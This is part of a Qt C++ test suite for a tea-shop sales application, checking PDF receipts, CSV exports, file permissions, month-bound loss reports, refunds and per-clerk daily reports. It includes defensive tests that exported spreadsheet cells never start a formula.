                                OrderStore::Settle{{},
                                                   {},
                                                   paid(QStringLiteral("現金"), QStringLiteral("刷卡"), 20, 100)});
        saveReceiptPdf(reports::receipt(shop.db(), split), pdf);
        const QString splitText =
            test::run(QStringLiteral("pdftotext"), {QStringLiteral("-layout"), pdf, QStringLiteral("-")})
                .out.simplified();
        for (const QString& want : {QStringLiteral("小計：50"), QStringLiteral("折扣：-5"), QStringLiteral("總計：45"),
                                    QStringLiteral("現金：25"), QStringLiteral("刷卡：20"),
                                    QStringLiteral("實收現金：100"), QStringLiteral("找零：75")})
            QVERIFY2(splitText.contains(want), qPrintable(want + QStringLiteral(" not in: ") + splitText));
    }

    // Receipts and exports hold customers' names and phones: the owner's
    // alone, as the shop file is, whatever the umask, also over an old file
    // others could read.
    void writtenFilesAreTheOwnersAlone_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<int>("mask");
        QTest::addColumn<bool>("overwrite");
        for (const char* kind : {"receipt", "export", "admin export"}) {
            QTest::addRow("%s, umask 022", kind) << QString::fromLatin1(kind) << 022 << false;
            QTest::addRow("%s, umask 000, over a 0644 file", kind) << QString::fromLatin1(kind) << 0 << true;
        }
    }
    void writtenFilesAreTheOwnersAlone()
    {
        QFETCH(QString, kind);
        QFETCH(int, mask);
        QFETCH(bool, overwrite);
        TestShop shop;
        shop.tea(QStringLiteral("T1"), QStringLiteral("凍頂烏龍"), 10, 12.5, 100).balances(0, 0);
        const qlonglong o = shop.order(QStringLiteral("王小明"));
        shop.line(o, QStringLiteral("T1"), 2);
        OrderStore::settleOrder(shop.db(), o);
        const QString path = shop.folder() + (kind == QLatin1String("receipt") ? QStringLiteral("/收據.pdf")
                                                                               : QStringLiteral("/茶葉.csv"));
        if (overwrite) {
            QFile old(path);
            QVERIFY(old.open(QIODevice::WriteOnly));
            QVERIFY(old.setPermissions(QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ReadGroup |
                                       QFileDevice::ReadOther));
        }
        const mode_t before = ::umask(mode_t(mask));
        auto restore = qScopeGuard([before] { ::umask(before); });
        QString text;
        if (kind == QLatin1String("receipt")) {
            saveReceiptPdf(reports::receipt(shop.db(), o), path);
            text = test::run(QStringLiteral("pdftotext"), {path, QStringLiteral("-")}).out;
        } else {
            if (kind == QLatin1String("export")) {
                CsvFile csv(path);
                reports::exportCatalogue(shop.db(), csv);
                csv.commit();
            } else {
                QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("catalogue"), QStringLiteral("--database"),
                                    shop.path(), path}),
                         0);
            }
            text = readCsv(path).value(1).join(QLatin1Char(','));
        }
        QVERIFY2(text.contains(kind == QLatin1String("receipt") ? QStringLiteral("王小明")
                                                                : QStringLiteral("凍頂烏龍")),
                 qPrintable(text));
        struct stat st {};
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &st), 0);
        QCOMPARE(st.st_mode & 0777, mode_t(0600));
    }

    // From the outside: names with commas, quotes and line breaks survive a
    // real CSV reader, the file starts with the byte-order mark, and amounts are plain numbers.
    void csvRoundTrip()
    {
        TestShop shop;
        const QString quoted = QStringLiteral("a,\"b\"");
        const QString twoLines = QStringLiteral("高山\r\n茶");
        shop.tea(QStringLiteral("1"), quoted, 1234567.5, 0.1, 3)
            .tea(QStringLiteral("2"), twoLines, QVariant(), 2000, -1.25)
            .balances(0, 0);
        const QString path = shop.folder() + QStringLiteral("/目錄.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("catalogue"), QStringLiteral("--database"),
                            shop.path(), path}),
                 0);

        QFile f(path);
        QVERIFY(f.open(QIODevice::ReadOnly));
        QVERIFY(f.read(3) == QByteArrayLiteral("\xEF\xBB\xBF"));
        const QList<QStringList> rows = readCsv(path);
        QCOMPARE(rows.size(), 3);
        QCOMPARE(rows[0], (QStringList{QStringLiteral("編號"), QStringLiteral("名稱"), QStringLiteral("進價"),
                                       QStringLiteral("訂價"), QStringLiteral("庫存"), QStringLiteral("單位")}));
        QCOMPARE(rows[1], (QStringList{QStringLiteral("1"), quoted, QStringLiteral("1234567.5"), QStringLiteral("0.1"),
                                       QStringLiteral("3"), QStringLiteral("公斤")}));
        QCOMPARE(rows[2], (QStringList{QStringLiteral("2"), twoLines, QStringLiteral(""), QStringLiteral("2000"),
                                       QStringLiteral("-1.25"), QStringLiteral("公斤")}));

        // Bad requests write nothing.
        const QString none = shop.folder() + QStringLiteral("/none.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("sales"), QStringLiteral("--from"),
                            QStringLiteral("2024-13-01"), QStringLiteral("--database"), shop.path(), none}),
                 2);
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("teas"), QStringLiteral("--database"), shop.path(),
                            none}),
                 2);
        const Run backwards = test::admin(
            {QStringLiteral("export"), QStringLiteral("sales"), QStringLiteral("--from"), QStringLiteral("2024-02-01"),
             QStringLiteral("--to"), QStringLiteral("2024-01-31"), QStringLiteral("--database"), shop.path(), none});
        QCOMPARE(backwards.code, 2);
        QVERIFY2(backwards.err.contains(QStringLiteral("2024-02-01 在 --to 的日期 2024-01-31 之後")),
                 qPrintable(backwards.err));
        QVERIFY(!QFile::exists(none));

        // A file made read-only is kept as it was, mode and all.
        QVERIFY(QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::ReadGroup | QFileDevice::ReadOther));
        const Run readOnly = test::admin(
            {QStringLiteral("export"), QStringLiteral("catalogue"), QStringLiteral("--database"), shop.path(), path});
        QCOMPARE(readOnly.code, 1);
        QVERIFY2(readOnly.err.contains(QStringLiteral("「%1」是唯讀的").arg(path)), qPrintable(readOnly.err));
        QVERIFY(!(QFile::permissions(path) &
                  (QFileDevice::WriteOwner | QFileDevice::WriteGroup | QFileDevice::WriteOther)));
        QCOMPARE(readCsv(path).size(), 3);
    }

    // Text anyone can type never reaches a spreadsheet as a formula: in every
    // export a text cell that would start one carries an apostrophe in front,
    // which is all that was added, and amounts stay numbers, negatives included.
    void csvCarriesNoFormula()
    {
        TestShop shop;
        QList<Exported> files;
        exportFormulaShop(shop, files);
        if (QTest::currentTestFailed())
            return;
        QStringList shown; // text cells with one leading apostrophe taken off
        QStringList negatives;
        for (const Exported& e : files) {
            const QList<QStringList> rows = readCsv(e.path);
            QVERIFY2(rows.size() > 2, qPrintable(e.path));
            for (const QStringList& r : rows.mid(1)) {
                QCOMPARE(r.size(), rows[0].size());
                for (qsizetype c = 0; c < r.size(); ++c) {
                    const QString& cell = r[c];
                    if (e.numberColumns.contains(rows[0][c])) {
                        bool ok = cell.isEmpty();
                        if (!ok)
                            cell.toDouble(&ok);
                        QVERIFY2(ok, qPrintable(e.path + QStringLiteral(": ") + cell));
                        if (cell.startsWith(QLatin1Char('-')))
                            negatives << cell;
                        continue;
                    }
                    QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()),
                             qPrintable(e.path + QStringLiteral(": ") + cell));
                    shown << (cell.startsWith(QLatin1Char('\'')) ? cell.mid(1) : cell);
                }
            }
        }
        for (const QString& typed : formulaTexts() + formulaTeaNumbers() + QStringList{QString::fromUtf8(kFormulaNote)})
            QVERIFY2(shown.contains(typed), qPrintable(typed));
        QVERIFY(negatives.contains(QStringLiteral("-50")) && negatives.contains(QStringLiteral("-2")));
    }

    // The same files in LibreOffice, told to evaluate formulas and to split at
    // commas, semicolons and tabs as its import does by default: no cell is a
    // formula, and the amounts are numbers.
    void csvInLibreOffice()
    {
        const QString soffice = QStandardPaths::findExecutable(QStringLiteral("soffice"));
        if (soffice.isEmpty())
            QSKIP("LibreOffice is not installed (Debian package libreoffice-calc-nogui)");
        if (TestShop::onPostgres())
            QSKIP("the same writer makes the file on either database; csvCarriesNoFormula reads it there");
        TestShop shop;
        QList<Exported> files;
        exportFormulaShop(shop, files);
        if (QTest::currentTestFailed())
            return;
        const QString out = shop.folder() + QStringLiteral("/calc");
        QStringList args{QStringLiteral("-env:UserInstallation=") +
                             QUrl::fromLocalFile(shop.folder() + QStringLiteral("/profile")).toString(),
                         QStringLiteral("--headless"),
                         QStringLiteral("--infilter=CSV:44/59/9,34,76,1,,0,false,true,false,false,false,-1,true"),
                         QStringLiteral("--convert-to"),
                         QStringLiteral("fods"),
                         QStringLiteral("--outdir"),
                         out};
        for (const Exported& e : files)
            args << e.path;
        const Run calc = test::run(soffice, args);
        QCOMPARE(calc.code, 0);
        for (const Exported& e : files) {
            QFile f(out + QLatin1Char('/') + QFileInfo(e.path).completeBaseName() + QStringLiteral(".fods"));
            QVERIFY2(f.open(QIODevice::ReadOnly), qPrintable(f.fileName() + calc.said()));
            QXmlStreamReader xml(&f);
            int cells = 0;
            QStringList numbers;
            while (!xml.atEnd()) {
                if (xml.readNext() != QXmlStreamReader::StartElement || xml.name() != QLatin1String("table-cell"))
                    continue;
                ++cells;
                const QXmlStreamAttributes a = xml.attributes();
                QVERIFY2(!a.hasAttribute(QStringLiteral("table:formula")),
                         qPrintable(e.path + QStringLiteral(": ") +
                                    a.value(QStringLiteral("table:formula")).toString()));
                if (a.value(QStringLiteral("office:value-type")) == QLatin1String("float"))
                    numbers << a.value(QStringLiteral("office:value")).toString();
            }
            QVERIFY2(!xml.hasError(), qPrintable(xml.errorString()));
            QVERIFY(cells > 20);
            if (e.numberColumns.contains(QStringLiteral("現金變動")))
                QVERIFY2(numbers.contains(QStringLiteral("-50")), qPrintable(numbers.join(QLatin1Char(' '))));
        }
    }

    // The month's losses follow the shop's clock: a write-off at 23:30 on the
    // last of January and one at 00:30 on the first of February, one UTC day
    // in the journal, fall in their own months. Weights in kilograms, boxes
    // in boxes, at 進價; a count that found more is below zero. The CSV file
    // reads back the same.
    void lossesByMonth()
    {
        TestShop shop;
        const QString A = QStringLiteral("A"), B = QStringLiteral("B"), C = QStringLiteral("C");
        shop.balances(1000, 0)
            .tea(A, QStringLiteral("烏龍"), 100, 150, 5)
            .tea(B, QStringLiteral("包種"), 2000, 3000, 1.5);
        shop.tea(C, QStringLiteral("禮盒"), 120, 200, 0);
        teaUnits::changeUnit(shop.db(), B, QStringLiteral("兩")); // 40 兩 at 75
        teaUnits::changeUnit(shop.db(), C, QStringLiteral("盒"));
        money::purchase(shop.db(), C, M(5));
        using namespace moves::reason;
        run(shop, {QDateTime(QDate(2026, 1, 31), QTime(23, 30)),
                   [&](Database& db) { stock::writeOff(db, A, M(0.5), Tasting, QString()); }});
        run(shop, {QDateTime(QDate(2026, 2, 1), QTime(0, 30)), [&](Database& db) {
                       stock::writeOff(db, A, M(0.25), Tasting, QString());
                       stock::writeOff(db, B, M(4), Damaged, QString());
                       stock::postCount(db, {{A, {}, M(4.25), M(5.25), {}}, {C, {}, M(5), M(3), {}}}, QString());
                   }});
        const QList<QStringList> expected = {
            {QStringLiteral("2026-01"), A, QStringLiteral("烏龍"), Tasting, QStringLiteral("0.5"),
             QStringLiteral("公斤"), QStringLiteral("50")},
            {QStringLiteral("2026-02"), A, QStringLiteral("烏龍"), Tasting, QStringLiteral("0.25"),
             QStringLiteral("公斤"), QStringLiteral("25")},
            {QStringLiteral("2026-02"), A, QStringLiteral("烏龍"), Counted, QStringLiteral("-1"),
             QStringLiteral("公斤"), QStringLiteral("-100")},
            {QStringLiteral("2026-02"), B, QStringLiteral("包種"), Damaged, QStringLiteral("0.15"),
             QStringLiteral("公斤"), QStringLiteral("300")},
            {QStringLiteral("2026-02"), C, QStringLiteral("禮盒"), Counted, QStringLiteral("2"), QStringLiteral("盒"),
             QStringLiteral("240")},
        };
        QList<QStringList> got;
        for (const stock::Loss& l : stock::losses(shop.db(), QDate(2026, 1, 15), QDate(2026, 2, 3)))
            got << QStringList{l.month.toString(QStringLiteral("yyyy-MM")),
                               l.tea,
                               l.name,
                               l.reason,
                               formatNumber(l.quantity),
                               l.unit,
                               l.cost.toString()};
        QCOMPARE(got, expected);
        QCOMPARE(stock::losses(shop.db(), QDate(2026, 2, 1), QDate(2026, 2, 1)).size(), 4);

        const QString path = shop.folder() + QStringLiteral("/losses.csv");
        {
            CsvFile csv(path);
            QCOMPARE(stock::exportLosses(shop.db(), csv, QDate(2026, 1, 1), QDate(2026, 2, 1)), 5);
            csv.commit();
        }
        const QList<QStringList> rows = readCsv(path);
        QCOMPARE(rows.value(0), texts({"月份", "編號", "名稱", "原因", "數量", "單位", "成本"}));
        QCOMPARE(rows.mid(1), expected);
    }

    // Sales one row per line, and the journal, in a date range.
    void csvSalesAndJournal()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("紅,茶"), 10, 12.5, 100).balances(0, 0);
        // B is sold by the 兩: each row names the unit of its quantity.
        shop.tea(QStringLiteral("B"), QStringLiteral("高山"), 2000, 4000, 0.6);
        teaUnits::changeUnit(shop.db(), QStringLiteral("B"), QStringLiteral("兩"));
        const QDate day(2026, 5, 1);
        run(shop, {QDateTime(day, QTime(9, 0)),
                   checkout(shop, QStringLiteral("王\"大\""),
                            {{QStringLiteral("A"), 2}, {QStringLiteral("A"), 1}, {QStringLiteral("B"), 4}})});
        run(shop, {QDateTime(day.addDays(1), QTime(9, 0)),
                   checkout(shop, QStringLiteral("次日"), {{QStringLiteral("A"), 5}})});
        const QString sales = shop.folder() + QStringLiteral("/sales.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("sales"), QStringLiteral("--from"),
                            day.toString(Qt::ISODate), QStringLiteral("--to"), day.toString(Qt::ISODate),
                            QStringLiteral("--database"), shop.path(), sales}),
                 0);
        const QList<QStringList> rows = readCsv(sales);
        QCOMPARE(rows.size(), 4);
        QCOMPARE(rows[0].mid(10),
                 (QStringList{QStringLiteral("單位"), QStringLiteral("種類"), QStringLiteral("原因")}));
        QCOMPARE(rows[1].mid(1, 10),
                 (QStringList{QStringLiteral("2026-05-01 09:00:00"), QStringLiteral("王\"大\""), QStringLiteral("A"),
                              QStringLiteral("紅,茶"), QStringLiteral("2"), QStringLiteral("12.5"),
                              QStringLiteral("25"), QString(), QStringLiteral("現金"), QStringLiteral("公斤")}));
        QCOMPARE(rows[2].mid(5, 6), (QStringList{QStringLiteral("1"), QStringLiteral("12.5"), QStringLiteral("12.5"),
                                                 QString(), QStringLiteral("現金"), QStringLiteral("公斤")}));
        QCOMPARE(rows[3].mid(3, 8),
                 (QStringList{QStringLiteral("B"), QStringLiteral("高山"), QStringLiteral("4"), QStringLiteral("150"),
                              QStringLiteral("600"), QString(), QStringLiteral("現金"), QStringLiteral("兩")}));
        // The receipt and the day's report name it too.
        const QList<reports::SaleLine> lines = reports::saleLines(shop.db(), rows[3][0].toLongLong());
        QCOMPARE(lines.last().unit, QStringLiteral("兩"));
        QCOMPARE(lines.first().unit, QString());
        const reports::DayReport d = reports::dayReport(shop.db(), day);
        QCOMPARE(d.sold.size(), 2);
        QCOMPARE(d.sold[1].unit, QStringLiteral("兩"));
        QCOMPARE(d.sold[1].kg, 4.0);

        const QString journal = shop.folder() + QStringLiteral("/journal.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("journal"), QStringLiteral("--to"),
                            day.toString(Qt::ISODate), QStringLiteral("--database"), shop.path(), journal}),
                 0);
        const QList<QStringList> j = readCsv(journal);
        QVERIFY(j.size() >= 5); // header, three lines and the cash row of the first day
        for (const QStringList& r : j.mid(1)) {
            QVERIFY2(r[3] < QStringLiteral("2026-05-02"), qPrintable(r.join(QLatin1Char('|'))));
            // A row that moves no stock names no unit.
            QCOMPARE(r[16], r[6].isEmpty()               ? QString()
                            : r[6] == QLatin1String("B") ? QStringLiteral("兩")
                                                         : QStringLiteral("公斤"));
        }
    }

    // A discounted sale partly returned and another returned whole by card,
    // the day after: the day's takings net of the refunds, counted by hand,
    // the refunds per method, the sales file's return rows and the receipt.
    // A shop with an owner and two clerks: each sale, return and adjustment
    // of the day reads under the person who made it, in the sales history,
    // the day's report and the journal file, with the owner who allowed it.
    void thePeoplesDay()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("烏龍"), 60, 100, 10).balances(500, 0);
        Database& db = shop.db();
        const people::Person owner = people::active(db).value(0);
        const people::Person amy = people::add(db, QStringLiteral("阿美"), people::Role::Clerk, QStringLiteral("a1"));
        const people::Person wang = people::add(db, QStringLiteral("小王"), people::Role::Clerk, QStringLiteral("w2"));
        struct SignOut {
            Database& db;
            ~SignOut() { people::signIn(db, people::Person{}); }
        } signOut{db};
        const QDate day = QDate::currentDate();
        const QVariant before = shop.scalar(QStringLiteral("SELECT max(日誌編號) FROM 帳務日誌表"));
        people::signIn(db, amy);
        checkout(shop, QStringLiteral("王"), {{QStringLiteral("A"), 1}})(db);
        people::signIn(db, wang);
        checkout(shop, QStringLiteral("李"), {{QStringLiteral("A"), 2}}, {}, QStringLiteral("10"))(db);
        returnOneOfFirstLine(shop, owner, QStringLiteral("李"));
        people::signIn(db, owner);
        money::adjust(db, M(-5), QStringLiteral("少五元"));

        // The sales history of one person lists only theirs.
        const QList<reports::Sale> amys = reports::salesPage(db, {day, day, {}, amy.id}, 10);
        QCOMPARE(amys.size(), 1);
        QCOMPARE(amys[0].customer, QStringLiteral("王"));
        QCOMPARE(reports::takingsByMethod(db, {day, day, {}, wang.id}).value(0).amount, M(190));

        // By hand: 阿美 one sale of 100; 小王 one of 190 after 10 off, and
        // one return of 95 that the owner allowed; the owner took 5 out.
        const reports::DayReport d = reports::dayReport(db, day);
        QCOMPARE(d.byPerson.size(), 3);
        auto of = [&](const QString& name) {
            for (const reports::DayReport::ByPerson& p : d.byPerson)
                if (p.name == name)
                    return p;
            return reports::DayReport::ByPerson{};
        };
        QCOMPARE(of(QStringLiteral("阿美")).takings, M(100));
        const reports::DayReport::ByPerson w = of(QStringLiteral("小王"));
        QCOMPARE((QList<int>{w.sales, w.returns, w.approved, w.adjustments}), (QList<int>{1, 1, 1, 0}));
        QCOMPARE(w.discounts, M(10));
        QCOMPARE(w.refunds, M(95));
        QCOMPARE(of(QStringLiteral("老闆")).adjusted, M(-5));
        QVERIFY(DayReport_frm::reportHtml(d).contains(QStringLiteral("各人員")));

        // Every row of the day's journal file names who made it.
        const QString file = shop.folder() + QStringLiteral("/journal.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("journal"), QStringLiteral("--database"),
                            shop.path(), file}),
                 0);
        const QList<QStringList> rows = readCsv(file);
        QCOMPARE(rows[0].mid(20), (QStringList{QStringLiteral("人員"), QStringLiteral("核准")}));
        QStringList made;
        for (const QStringList& row : rows.mid(1))
            if (row[2] != QStringLiteral("期初") && !row[20].isEmpty())
                made << row[2] + QLatin1Char(':') + row[20] + QLatin1Char('/') + row[21];
        made.removeDuplicates();
        QCOMPARE(made, (QStringList{QStringLiteral("結帳:阿美/"), QStringLiteral("結帳:小王/"),
                                    QStringLiteral("退貨:小王/老闆"), QStringLiteral("調整:老闆/")}));
        QCOMPARE(shop.scalar(QStringLiteral("SELECT count(*) FROM 帳務日誌表 WHERE 日誌編號 > ? AND 人員 IS NULL"),
                             {before})
                     .toInt(),
                 0);
    }

    void returnsInTheDayAndTheFiles()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("烏龍"), 60, 100, 10).balances(500, 0);
        const QDate day(2026, 5, 1);
        const QDateTime sold(day.addDays(-1), QTime(15, 0)), back(day, QTime(10, 0));
        run(shop, {sold, checkout(shop, QStringLiteral("王"), {{QStringLiteral("A"), 3}}, {}, QStringLiteral("10%"))});
        run(shop,
            {sold, checkout(shop, QStringLiteral("李"), {{QStringLiteral("A"), 1}}, paid(QStringLiteral("刷卡")))});
        auto giveBack = [&](const QString& customer, Money kg, const QString& method) {
            return [&shop, customer, kg, method](Database& db) {
                const qlonglong order =
                    shop.scalar(QStringLiteral("SELECT 訂單編號 FROM 訂單資料表 WHERE 客戶名稱 = ?"), {customer})
                        .toLongLong();
                returns::Request r;
                r.order = order;
                r.reason = QStringLiteral("不合口味");
                r.method = method;
                r.quantities = {{returns::sale(db, order).lines[0].row, kg}};
                returns::returnSale(db, r);
            };
        };
        run(shop, {back, giveBack(QStringLiteral("王"), M(1), {})});
        run(shop, {back, giveBack(QStringLiteral("李"), M(1), {})});
        const reports::DayReport d = reports::dayReport(shop.db(), day);
        // By hand: 270 paid, 90 of it back in cash; 100 by card, all back.
        QCOMPARE(d.sales, Money());
        QCOMPARE(d.refunds, M(190));
        QCOMPARE(d.takings, M(-190));
        QCOMPARE(d.returns.size(), 2);
        QCOMPARE(d.openingCash, M(770));
        QCOMPARE(d.closingCash, M(680));
        QCOMPARE(d.openingBank, M(100));
        QCOMPARE(d.closingBank, M(0));
        QCOMPARE(d.refundsByMethod.size(), 2);
        QCOMPARE(d.refundsByMethod[0].method, QStringLiteral("現金"));
        QCOMPARE(d.refundsByMethod[1].amount, M(100));
        const QString html = DayReport_frm::reportHtml(d);
        QVERIFY(html.contains(QStringLiteral("退貨退款")) && html.contains(QStringLiteral("不合口味")));
        QCOMPARE(reports::dailyTakings(shop.db(), day, 2), (QList<Money>{M(370), M(-190)}));

        const QList<reports::Sale> listed = reports::salesPage(shop.db(), {sold.date(), day, {}, {}}, 10);
        QCOMPARE(listed[1].refunded, M(90));
        QCOMPARE(listed[1].refunds.value(0).method, QStringLiteral("現金"));

        const QString file = shop.folder() + QStringLiteral("/sales.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("sales"), QStringLiteral("--database"),
                            shop.path(), file}),
                 0);
        const QList<QStringList> rows = readCsv(file);
        QCOMPARE(rows.size(), 5);
        QCOMPARE(rows[3].mid(1),
                 (QStringList{QStringLiteral("2026-05-01 10:00:00"), QStringLiteral("王"), QStringLiteral("A"),
                              QStringLiteral("烏龍"), QStringLiteral("-1"), QString(), QStringLiteral("-90"), QString(),
                              QStringLiteral("現金"), QStringLiteral("公斤"), QStringLiteral("退貨"),
                              QStringLiteral("不合口味")}));
        QCOMPARE(rows[4][7], QStringLiteral("-100"));

        const QString pdf = shop.folder() + QStringLiteral("/收據.pdf");
        saveReceiptPdf(reports::receipt(shop.db(), listed[1].order), pdf);
        QVERIFY(test::run(QStringLiteral("pdftotext"), {pdf, QStringLiteral("-")})
                    .out.contains(QStringLiteral("已退貨退款：90")));
    }
};

QTEST_MAIN(tst_reports)
#include "tst_reports.moc"
